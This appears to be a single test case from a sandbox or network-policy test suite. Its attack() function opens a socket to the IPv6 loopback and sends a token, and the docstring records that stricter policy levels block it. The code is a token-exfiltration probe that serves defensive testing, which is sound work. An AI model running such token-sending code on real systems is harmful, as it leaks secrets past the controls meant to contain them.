"""Sends the token to a TCP listener on the IPv6 loopback address.

Seen: the token arrives at the listener.
Stopped at: strict, standard.
Verdict: raised.
"""
import socket


def attack():
    with socket.create_connection(("::1", target.tcp6), 2) as connection:
        connection.sendall(target.token)
